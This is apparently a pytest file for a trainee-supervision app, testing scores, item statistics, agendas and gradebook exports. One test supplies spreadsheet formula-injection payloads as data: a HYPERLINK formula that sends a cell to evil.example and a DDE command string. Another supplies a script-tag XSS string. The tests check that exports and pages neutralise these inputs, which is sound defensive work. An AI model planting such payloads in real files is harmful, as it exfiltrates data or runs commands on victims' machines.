"""Supervisor results on a small fixed data set, checked against values worked out by hand."""

import csv
import io
import math
import re
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from db_fixtures import BACKENDS, fresh_engine
from sqlalchemy import insert

from records.assignments import Person, assignment_answers, own_submission_score, submission_scores, trainee_answers
from records.tables import answers, assignment_trainees, assignments, attempts, cohorts, submissions, supervisors, trainees
from scenarios.parts import part_mask
from scoring.agenda import agenda_html, agenda_markdown, agenda_of
from scoring.results import (
    answers_export,
    canvas_gradebook,
    counted_submissions,
    part_rollup,
    to_csv_bytes,
    to_xlsx_bytes,
)
from services.dashboard import load_summary

T0 = datetime(2026, 11, 2, 12, tzinfo=UTC)
RATING = {1.0: "best", 0.5: "acceptable", 0.0: "poor"}
# credits per trainee (steps a, b of s1 | step c of s2). T1 also handed in an earlier, weaker submission.
PLAN = {1: (1, 1, 1), 2: (1, 0, 0.5), 3: (0, 0, 1), 4: (0.5, 1, 0)}


@pytest.fixture(params=BACKENDS)
def engine(request, tmp_path):
    engine = fresh_engine(request.param, tmp_path)
    yield engine
    engine.dispose()


def answer_row(attempt, step, credit, parts=("professional",), upholds=True):
    verdict = "upholds" if upholds else "undermines"
    mask = part_mask(parts)
    return {
        "attempt_id": attempt, "position": {"a": 0, "b": 1, "c": 0}[step], "step_id": step, "option_id": f"{step}-{RATING[credit]}",
        "rating": RATING[credit], "credit": credit, "confidence": None, "answered_at": T0,
        "judged": {"prompt": f"Prompt {step}", "option_text": f"Option {step} {RATING[credit]}", "feedback": "Because.",
                   "effects": {p: [verdict, "reason"] for p in parts}, "at_stake": list(parts)},
        "at_stake_mask": mask, "upheld_mask": mask if upholds else 0, "undermined_mask": 0 if upholds else mask,
    }


def seed(engine, counts="best", due=None, restarted=False) -> dict:
    """The fixed data set, written through the real tables."""
    with engine.begin() as c:
        c.execute(insert(supervisors).values(id=1, name="Dr. S", email="s@uni.edu", password_hash="x", failed_logins=0, created_at=T0))
        c.execute(insert(cohorts).values(id=1, supervisor_id=1, title="Cohort", created_at=T0))
        for t in (1, 2, 3, 4, 6):
            c.execute(insert(trainees).values(id=t, name=f"Trainee {t}", token_hash=f"{t:064d}", created_at=T0, cohort_id=1, email=f"t{t}@uni.edu" if t != 6 else None, sis_id=f"S{t}"))
        c.execute(insert(assignments).values(id=1, cohort_id=1, title="Week 3", mode="assessment", due_at=due, attempts_allowed=None, counts=counts,
                                             confidence=True, reflection_required=False, scenario_ids=["s1", "s2"], created_at=T0))
        c.execute(insert(assignment_trainees), [{"assignment_id": 1, "trainee_id": t} for t in (1, 2, 3, 4, 6)])
        c.execute(insert(submissions).values(id=5, assignment_id=1, trainee_id=1, number=1, started_at=T0 - timedelta(days=1), submitted_at=T0 - timedelta(days=1)))
        for t in PLAN:
            c.execute(insert(submissions).values(id=t, assignment_id=1, trainee_id=t, number=2 if t == 1 else 1, started_at=T0, submitted_at=T0 + timedelta(hours=t)))
        rows = []
        for t, (a, b, cc) in PLAN.items():
            c.execute(insert(attempts).values(id=10 * t, trainee_id=t, submission_id=t, scenario_id="s1", scenario_hash="h" * 64, scenario_title="Scenario one", started_at=T0, finished_at=T0,
                                              reflection="I would hold the frame." if t == 2 else None))
            c.execute(insert(attempts).values(id=10 * t + 1, trainee_id=t, submission_id=t, scenario_id="s2", scenario_hash="h" * 64, scenario_title="Scenario two", started_at=T0, finished_at=T0))
            rows += [answer_row(10 * t, "a", a), answer_row(10 * t, "b", b, upholds=b == 1), answer_row(10 * t + 1, "c", cc, parts=("for_the_client",))]
        c.execute(insert(attempts).values(id=50, trainee_id=1, submission_id=5, scenario_id="s1", scenario_hash="h" * 64, scenario_title="Scenario one", started_at=T0, finished_at=T0))
        c.execute(insert(attempts).values(id=51, trainee_id=1, submission_id=5, scenario_id="s2", scenario_hash="h" * 64, scenario_title="Scenario two", started_at=T0, finished_at=T0))
        rows += [answer_row(50, "a", 0), answer_row(50, "b", 0), answer_row(51, "c", 0, parts=("for_the_client",))]
        if restarted:  # trainee 4 began s2 once before its revision; the newer attempt 41 replaces this one
            c.execute(insert(attempts).values(id=39, trainee_id=4, submission_id=4, scenario_id="s2", scenario_hash="o" * 64, scenario_title="Scenario two (old)", started_at=T0, finished_at=None))
            rows.append(answer_row(39, "c", 1, parts=("for_the_client",)))
        c.execute(insert(answers), rows)
    return {"supervisor": 1, "assignment": 1}


def summary_of(engine, **options):
    seed(engine, **options)
    return load_summary(engine, 1, 1)


def detail_of(engine, trainee_id: int) -> list[dict]:
    return trainee_answers(engine, 1, 1, trainee_id)


def test_scores_and_the_attempt_that_counts(engine):
    summary = summary_of(engine)
    assert {k: v[0] for k, v in summary.scores.items()} == {1: 100.0, 2: 50.0, 3: 50.0, 4: 37.5, 5: 0.0}
    assert summary.counted[1].id == 1
    assert counted_submissions("first", summary.overview.submissions, summary.scores)[1].id == 5
    assert counted_submissions("last", summary.overview.submissions, summary.scores)[1].id == 1
    table = summary.score_table().set_index("trainee")
    assert table.loc["Trainee 1", "score (%)"] == 100.0 and table.loc["Trainee 4", "score (%)"] == 37.5
    assert table.loc["Trainee 6", "status"] == "not started" and math.isnan(table.loc["Trainee 6", "score (%)"])


def test_the_first_attempt_can_be_the_one_that_counts(engine):
    table = summary_of(engine, counts="first").score_table().set_index("trainee")
    assert table.loc["Trainee 1", "score (%)"] == 0.0


def test_late_and_overdue_statuses(engine):
    summary = summary_of(engine, due=T0 + timedelta(hours=2, minutes=30))
    table = summary.score_table(now=T0 + timedelta(days=1)).set_index("trainee")["status"]
    assert table.to_dict() == {"Trainee 1": "submitted", "Trainee 2": "submitted", "Trainee 3": "submitted late", "Trainee 4": "submitted late", "Trainee 6": "overdue"}


def test_item_statistics_match_hand_computation(engine):
    items = summary_of(engine).item_statistics().set_index("step_id")
    # step a: credits 1, 1, 0, .5; rest of test 2, .5, 1, 1
    assert items.loc["a", "answers"] == 4
    assert items.loc["a", "facility"] == pytest.approx(0.625)
    assert items.loc["a", "sd"] == pytest.approx(math.sqrt(0.6875 / 3))
    assert items.loc["a", "discrimination"] == pytest.approx(0.1875 / math.sqrt(0.6875 * 1.1875))
    # step b: credits 1, 0, 0, 1; rest 2, 1.5, 1, .5 -> the products of deviations cancel: r = 0
    assert items.loc["b", "facility"] == pytest.approx(0.5)
    assert items.loc["b", "discrimination"] == pytest.approx(0.0, abs=1e-9)
    assert items.loc["b", "flags"] == ""
    # step c: credits 1, .5, 1, 0; rest 2, 1, 0, 1.5 -> sum of products -.3125: negative
    assert items.loc["c", "discrimination"] == pytest.approx(-0.3125 / math.sqrt(0.6875 * 2.1875))
    assert items.loc["c", "flags"] == "discriminates negatively"
    assert items.loc["a", "parts"] == "Professional" and items.loc["c", "parts"] == "For the client"


def test_a_restarted_attempt_replaces_the_older_one(engine):
    items = summary_of(engine, restarted=True).item_statistics().set_index("step_id")
    assert items.loc["c", "answers"] == 4 and items.loc["c", "facility"] == pytest.approx(0.625)


def test_option_frequencies_and_part_rollup(engine):
    summary = summary_of(engine)
    options = summary.option_frequencies()
    step_a = options[options["step_id"] == "a"].set_index("rating")
    assert step_a.loc["best", "chosen"] == 2 and step_a.loc["best", "share"] == pytest.approx(0.5)
    rollup = part_rollup(summary.item_statistics()).set_index("part")
    assert rollup.loc["Professional", "steps"] == 2 and rollup.loc["Professional", "mean facility"] == pytest.approx((0.625 + 0.5) / 2)
    assert rollup.loc["Personal", "steps"] == 0


def test_heatmap_counts_only_the_counted_submission(engine):
    cells = summary_of(engine).heatmap_frame().set_index(["trainee", "part"])
    assert cells.loc[("Trainee 1", "Professional"), "upheld rate"] == 1.0  # not the weaker submission 5
    assert cells.loc[("Trainee 2", "Professional"), "upheld rate"] == 0.5
    assert cells.loc[("Trainee 3", "For the client"), "at stake"] == 1


def rendered(markdown: str) -> str:
    """What a Markdown viewer shows of a file: its text, without tags."""
    from html import unescape

    from markdown_it import MarkdownIt

    from scenarios.text import WORD_JOINER

    return unescape(re.sub(r"<[^>]+>", "", MarkdownIt("commonmark").render(markdown))).replace(WORD_JOINER, "")


def test_agenda_names_weak_parts_harm_and_reflections(engine):
    summary = summary_of(engine)
    agenda = agenda_of(summary, 2, detail_of(engine, 2))
    text = rendered(agenda_markdown(agenda))
    assert text.startswith("Supervision agenda: Trainee 2")
    assert "\nWeakest parts\n" in text and "Professional: upheld 1 of 2" in text
    assert "\nHarmful choices\n" in text and "\nReflections worth discussing\n" in text and "I would hold the frame." in text
    page = agenda_html(agenda)
    assert "<h2>Weakest parts</h2>" in page and "I would hold the frame." in page and "Notes from the session" in page



def test_the_agenda_names_a_harmful_choice_by_scenario_title_and_prompt_not_ids():
    from scoring.agenda import Agenda, HarmfulChoice

    text = rendered(agenda_markdown(Agenda("Ana", "Week 1", True, (), (HarmfulChoice("A souvenir", "He insists. What now?", "Take it.", "It binds him."),), ())))
    assert "A souvenir: He insists. What now? Chose “Take it.”. It binds him." in text


def test_the_printable_agenda_escapes_what_trainees_wrote():
    from scoring.agenda import Agenda, ReflectionToDiscuss

    hostile = Agenda("<b>Eve</b>", "Week 1", True, (), (), (ReflectionToDiscuss("Gift", 1, "<script>alert(1)</script>"),))
    page = agenda_html(hostile)
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;b&gt;Eve" in page


def test_answers_export_has_a_row_per_answer_with_part_marks(engine):
    summary = summary_of(engine)
    frame = answers_export(summary.overview, assignment_answers(engine, 1, 1))
    assert len(frame) == 15
    row = frame[(frame["trainee"] == "Trainee 2") & (frame["step"] == "Prompt b")].iloc[0]
    assert row["rating"] == "poor" and row["Professional"] == "undermined" and row["Personal"] == "not at stake"
    assert row["chose"] == "Option b poor", "the words the trainee chose, not an option id"
    assert not {"scenario_id", "step_id", "option_id", "option"} & set(frame.columns), "no internal ids"
    assert row["answered (UTC)"][:2] == "20" and {"scenario", "reflection"} <= set(frame.columns)


def test_a_trainee_sees_the_score_the_dashboard_shows(engine):
    """One score, reckoned in one place: the trainee's own review and the supervisor's dashboard agree."""
    summary = summary_of(engine)
    for trainee_id, submission in summary.counted.items():
        assert own_submission_score(engine, trainee_id, submission.id) == pytest.approx(submission_scores(engine, 1, 1)[submission.id][0])


def test_canvas_gradebook_layout_and_xlsx():
    frame = canvas_gradebook("Practicum II", [Person(1, "Ana", "ana@uni.edu", "S1"), Person(2, "Ben", None, None)], {"Week 3": {1: 87.5, 2: None}})
    assert list(frame.columns) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
    assert frame.iloc[0]["Student"].strip() == "Points Possible" and frame.iloc[0]["Week 3"] == 100
    assert frame.iloc[1].tolist() == ["Ana", "", "S1", "ana@uni.edu", "Practicum II", 87.5]
    assert frame.iloc[2]["Week 3"] == ""
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert [c.value for c in sheet[1]] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
    assert sheet["A3"].value == "Ana" and sheet["F3"].value == 87.5
    assert sheet.freeze_panes == "A2", "the header row stays in view"
    assert sheet.column_dimensions["A"].width >= len("    Points Possible") and sheet.column_dimensions["D"].width >= len("ana@uni.edu")




def test_exports_never_hand_a_spreadsheet_a_formula():
    people = [Person(1, '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1@x.edu", "@SUM(1)"), Person(2, "-2+3", None, None)]
    frame = canvas_gradebook("=cmd|' /C calc'!A0", people, {"=1+1": {1: 50.0, 2: None}})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an XLSX cell is a formula"
    assert sheet["A3"].value == people[0].name and sheet["F1"].value == "=1+1", "XLSX text is kept exactly, as text"
    assert sheet["F3"].value == 50.0
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode())))
    assert not [f for row in rows for f in row if f.startswith(("=", "+", "-", "@"))], rows
    assert rows[2][:4] == ["'" + people[0].name, "", "'@SUM(1)", "'+1@x.edu"] and rows[2][5] == "50.0"
    assert rows[3][0] == "'-2+3" and rows[0][5] == "'=1+1"


def test_two_assignments_with_one_title_keep_their_own_grades(engine):
    """Reported: the gradebook keyed scores by title, so an empty "Week 3" blanked the graded one."""
    from records.cohorts import Cohort
    from services.dashboard import cohort_gradebook

    seed(engine)
    with engine.begin() as c:
        c.execute(insert(assignments).values(id=2, cohort_id=1, title="Week 3", mode="practice", due_at=None, attempts_allowed=None, counts="best",
                                             confidence=True, reflection_required=False, scenario_ids=["s1"], created_at=T0))
        c.execute(insert(assignment_trainees), [{"assignment_id": 2, "trainee_id": t} for t in (1, 2)])
    book = cohort_gradebook(engine, 1, Cohort(1, "Cohort"))
    assert list(book.columns[5:]) == ["Week 3 (1)", "Week 3 (2)"]
    rows = book.set_index("Student")
    assert rows.loc["Trainee 1", "Week 3 (1)"] == 100.0 and rows.loc["Trainee 4", "Week 3 (1)"] == 37.5
    assert rows.loc["Trainee 1", "Week 3 (2)"] == ""


def test_a_score_reads_the_same_to_trainee_and_supervisor():
    """Reported: 12.5 % showed as 12 % to the trainee (Python rounds half to even) and 13 % on the dashboard."""
    from services.markup import PERCENT_FORMAT, percent

    assert percent(12.5) == "12.5%" == PERCENT_FORMAT % 12.5 and percent(100) == "100.0%"


def test_the_score_table_never_shows_the_word_none(engine):
    """Reported: "None" appeared in tables for trainees with nothing handed in."""
    seed(engine)
    with engine.begin() as c:  # a new assignment: nobody has handed anything in yet
        c.execute(insert(assignments).values(id=2, cohort_id=1, title="Week 4", mode="practice", due_at=None, attempts_allowed=None, counts="best",
                                             confidence=True, reflection_required=False, scenario_ids=["s1"], created_at=T0))
        c.execute(insert(assignment_trainees), [{"assignment_id": 2, "trainee_id": t} for t in (1, 2)])
    table = load_summary(engine, 1, 2).score_table(now=T0)
    assert len(table) == 2 and not table.map(lambda v: v is None).any().any()
    assert table["score (%)"].dtype == float and set(table["submitted (UTC)"]) == {""}
    graded = load_summary(engine, 1, 1).score_table(now=T0).set_index("trainee")
    assert graded.loc["Trainee 1", "submitted (UTC)"] == "2026-11-02 13:00"


def test_the_agendas_weakest_part_is_not_one_missed_answer():
    """Reported: "Personal: 0 of 1" was listed as weakest while Relationship was upheld 1 time in 6."""
    import pandas as pd

    from scoring.agenda import weakest_first

    profile = pd.DataFrame(
        [
            {"part": "Personal", "at stake": 1, "upheld": 0, "undermined": 0},
            {"part": "Relationship", "at stake": 6, "upheld": 1, "undermined": 3},
            {"part": "Professional", "at stake": 4, "upheld": 4, "undermined": 0},
            {"part": "For the client", "at stake": 0, "upheld": 0, "undermined": 0},
        ]
    )
    assert weakest_first(profile)["part"].tolist() == ["Relationship", "Personal", "Professional"]
